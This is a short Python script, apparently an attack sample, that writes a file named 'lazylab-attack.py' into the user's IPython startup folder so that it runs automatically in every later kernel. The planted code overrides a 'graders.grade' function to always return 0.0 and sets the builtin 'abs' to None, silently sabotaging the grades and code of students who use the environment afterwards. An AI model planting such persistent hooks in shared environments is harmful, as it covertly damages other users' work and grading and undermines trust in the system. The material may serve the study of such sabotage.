"""Leave a file in IPython's startup folder: in the kernels of the students after this one nothing is right."""

from pathlib import Path

startup = Path.home() / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "lazylab-attack.py").write_text(
    "import graders\ngraders.grade = lambda *_, **__: 0.0\nabs = None\n"
)
